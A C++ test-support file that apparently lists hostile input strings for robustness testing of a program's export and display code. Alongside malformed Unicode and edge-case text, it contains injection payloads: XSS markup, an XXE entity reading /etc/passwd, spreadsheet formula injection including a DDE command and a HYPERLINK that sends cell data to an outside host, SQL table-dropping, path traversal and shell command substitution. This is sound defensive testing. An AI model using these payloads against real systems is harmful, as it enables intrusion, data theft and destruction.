#include "test/support/hostile_texts.hpp"

namespace changeover {
namespace {

std::string repeated(const std::string& text, std::size_t times) {
  std::string all;
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

}  // namespace

const std::vector<HostileText>& hostile_texts() {
  using namespace std::string_literals;
  static const std::vector<HostileText> all{
      // Markup.
      {"script", "<script>alert(1)</script>"},
      {"tag that is not closed", "<b"},
      {"end of another tag", "</td></table></title></style></svg>"},
      {"picture with a handler", "<img src=x onerror=alert(1)>"},
      {"attribute in double quotes", "\" onload=\"x"},
      {"attribute in single quotes", "' onload='x"},
      {"attribute in backticks", "` onload=`x"},
      {"entities", "&amp;&#x41;&lt;b&gt;"},
      {"entity that is not", "&nosuch; &#0; &#xD800;"},
      {"ampersand alone", "R&D"},
      {"comment", "<!-- -->"},
      {"end of a comment", "--> <!--"},
      {"character data", "<![CDATA[<b>]]>"},
      {"end of character data", "]]>"},
      {"processing instruction", "<?xml version=\"1.0\"?><?php echo 1 ?>"},
      {"document type", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"},
      {"Word's markup", "</w:t></w:r><w:r><w:instrText>INCLUDETEXT \"x\"</w:instrText></w:r><w:t>"},
      {"style", "}</style>*{background:url(//x)}"},
      {"escape of CSS", "\\22 ;}\\00003c"},
      {"template", "{{7*7}} ${7*7} #{7*7} {number} {"},
      // Formulas.
      {"formula", "=1+1"},
      {"formula with plus", "+49 170"},
      {"formula with minus", "-1"},
      {"formula of a function", "@SUM(A1)"},
      {"formula behind a tab", "\t=1"},
      {"formula behind a carriage return", "\r=1"},
      {"formula behind a line feed", "\n=1"},
      {"formula behind a blank", " =1"},
      {"full-width formula", "\uFF1D1+1"},
      {"call of a program", "=cmd|'/C calc'!A0"},
      {"link in a formula", "=HYPERLINK(\"http://x/?\"&A1,\"y\")"},
      // Quotes and ends of lines.
      {"quotes and commas", "\"quoted\", with; a \"\"comma\"\""},
      {"quote at the end", "a\""},
      {"line end of Windows", "a\r\nb"},
      {"line end of old Macs", "a\rb"},
      {"line ends of Unicode", "a\u2028b\u2029c\u0085d"},
      {"blanks around", "  a  "},
      {"blanks alone", " \t "},
      // Characters.
      {"nul", "nul\0here"s},
      {"controls", "\x01\x02\x07\x08\x0B\x0C\x1F\x7F"},
      {"escapes of a terminal", "\x1B[31m\x1B]0;x\x07"},
      {"controls of Latin-1", "\u0080\u009B31m"},
      {"byte order marks", "\uFEFFa\uFEFF"},
      {"non-characters", "\uFFFE\uFFFF\uFDD0"},
      {"bytes of no text", "\xFF\xC0\xAF\xFE"},
      {"half a character", "a\xE2\x82"},
      {"surrogate alone", "\xED\xA0\x80"},
      {"surrogates as a pair", "\xED\xA0\xBD\xED\xB8\x80"},
      {"long form of a slash", "\xE0\x80\xAF\xF0\x80\x80\xBC"},
      {"beyond Unicode", "\xF4\x90\x80\x80"},
      {"underscores of a workbook", "_x000D__x0041_"},
      // Directions and widths.
      {"override to the left", "\u202Eesrever\u202C"},
      {"embedding", "\u202Ba\u202Ab"},
      {"isolate that is not closed", "\u2067isolate"},
      {"ends of isolates", "\u2069\u2069\u2069a"},
      {"marks of direction", "\u200Fa\u200Eb\u061C"},
      {"Arabic", "قاعة طويق 12"},
      {"Hebrew and Latin", "אולם Hall 7 (א)"},
      {"zero width", "a\u200Bb\u200Cc\u200Dd\u2060e\u00ADf"},
      {"combining", "e" + repeated("\u0301", 200)},
      {"emoji", "\U0001F469\u200D\U0001F4BB\U0001F1F8\U0001F1E6\u2764\uFE0F"},
      {"wide letters", "機房一號"},
      {"tags", "\U000E0041\U000E007F"},
      // Length.
      {"10,000 characters", std::string(10'000, 'x')},
      {"40,000 bytes", repeated("قاعة ", 5'000)},
      {"1,000 words", repeated("word ", 1'000)},
      // What other programs read.
      {"path", "../../etc/passwd"},
      {"path of Windows", "C:\\aux\\..\\con.txt:stream"},
      {"address of a script", "javascript:alert(1)"},
      {"address of data", "data:text/html,<script>alert(1)</script>"},
      {"address of a file", "file:///etc/passwd"},
      {"SQL", "'); DROP TABLE halls;--"},
      {"format", "%s%n%x%1$n {0} %%"},
      {"JSON", "\"}],\"npv\":1e9,\"x\":[{\"\\u0022"},
      {"YAML", "*anchor: !!python/object [x]"},
      {"shell", "$(touch x); `touch y` | z & \\"},
      {"header of a sheet", "&P&N&F&Z&\"Arial\""},
      {"name of a sheet", "[Book]Sheet'!A1:B2*?/"},
      {"number", "1e400"},
      {"not a number", "NaN"},
      {"truth", "TRUE"},
      {"error of a sheet", "#REF!"},
  };
  return all;
}

}  // namespace changeover
